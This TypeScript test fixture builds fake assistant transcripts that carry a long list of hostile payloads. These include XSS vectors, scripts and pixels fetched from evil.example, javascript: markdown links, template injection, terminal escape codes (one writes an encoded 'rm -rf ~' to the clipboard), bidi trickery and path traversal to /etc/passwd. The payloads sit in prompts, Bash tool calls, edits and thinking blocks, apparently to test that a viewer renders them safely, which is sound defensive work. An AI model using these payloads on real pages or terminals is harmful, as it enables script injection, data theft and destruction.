// What a transcript may hold that is out to harm: models repeat web pages, and web pages are written by anybody.

import { homeOf, type MadeSession, Rows, sessionId } from './homes.ts';

/** If any of it ran, this would be there. */
const RUN = 'globalThis.ran=1';

const PAYLOADS: string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</pre></code><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="http://evil.example/x.js"></script>`,
  `<script type="module">import "http://evil.example/x.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http://evil.example/pixel.gif">`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>click</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<base href="http://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<link rel="prefetch" href="http://evil.example/">`,
  `<style>@import "http://evil.example/x.css";</style>`,
  `<style>body{background:url(http://evil.example/x.png)}</style>`,
  `<div style="background:url(http://evil.example/x.png)">x</div>`,
  `<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>`,
  `<template><script>${RUN}</script></template>`,
  `<portal src="http://evil.example"></portal>`,
  `[click me](javascript:${RUN})`,
  `[click me](JaVaScRiPt:${RUN})`,
  `[click me](java\nscript:${RUN})`,
  `[click me](&#106;avascript:${RUN})`,
  `[click me](data:text/html,<script>${RUN}</script>)`,
  `[click me](vbscript:${RUN})`,
  `[click me](file:///etc/passwd)`,
  `<javascript:${RUN}>`,
  `![x](javascript:${RUN})`,
  `![x](http://evil.example/pixel.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMucmFuPTEiPg==)`,
  `[ref]: javascript:${RUN}\n\n[ref]`,
  `[x]: http://evil.example "title"\n\n![x]`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [y](javascript:${RUN}) |`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `__proto__ constructor prototype <a id=globalThis name=ran>`,
  `<form id=document><input name=cookie></form>`,
  `\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007`,
  `\u001b[2J\u001b[H\u001b[31mYour session was deleted\u001b[0m`,
  `\u001b]52;c;cm0gLXJmIH4=\u0007`,
  `innocent\u202e// gnp.exe`,
  `\u2066\u2067\u2068if (isAdmin) {\u2069 \u2066begin admins only`,
  `entities &#x202e;desrever&#x202c; and &ZeroWidthSpace;hidden`,
  `zero\u200bwidth\u200bjoiners\ufeff and tags \u{e0041}\u{e0042}`,
  `combining Z̸̢̛͍͙̬a̸͎͎͈l̵̲̯g̶̖̹̈́o ${'\u0300'.repeat(200)}`,
  `../../../../etc/passwd`,
  `..\\..\\windows\\system32`,
  `/s/%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `\u0000\u0001\u0002 NUL and friends \u007f\u0080\u009f`,
  `a${'a'.repeat(200_000)}`,
  `${'['.repeat(5000)}x${']'.repeat(5000)}`,
  `${'> '.repeat(2000)}deep`,
  `${'*a_'.repeat(5000)}`,
  `${'`'.repeat(5000)}`,
  `${'- '.repeat(1000)}list`,
];

/** Where a text of somebody else's may stand. */
const CARRIERS: Record<string, (rows: Rows, text: string) => Rows> = {
  prompt: (rows, text) => rows.prompt(text).text('Understood.'),
  reply: (rows, text) => rows.prompt('Go on').text(text),
  tool: (rows, text) => rows.prompt('Run it').call('Bash', { command: text, description: text }, text),
  edit: (rows, text) =>
    rows
      .prompt('Change it')
      .call('Edit', { file_path: `/home/dev/made/${text.slice(0, 80)}`, old_string: 'old', new_string: text }, 'done'),
  thinking: (rows, text) =>
    rows.prompt('Think').reply({ type: 'thinking', thinking: text, signature: 'x' }, { type: 'text', text: 'Done.' }),
  title: (rows, text) =>
    rows
      .row({ type: 'summary', summary: text.slice(0, 500), leafUuid: 'nobody' })
      .prompt(text)
      .text('Titled.'),
};

interface HostileSession extends MadeSession {
  carrier: string;
  payload: string;
}

function hostileSessions(): HostileSession[] {
  return PAYLOADS.flatMap((payload, number) =>
    Object.entries(CARRIERS).map(([carrier, carry], kind) => {
      const id = sessionId(number * 10 + kind);
      return { id, carrier, payload, rows: carry(new Rows(id), payload).rows };
    }),
  );
}

export function hostileHome(): { home: string; sessions: HostileSession[] } {
  const sessions = hostileSessions();
  return { home: homeOf(sessions).home, sessions };
}
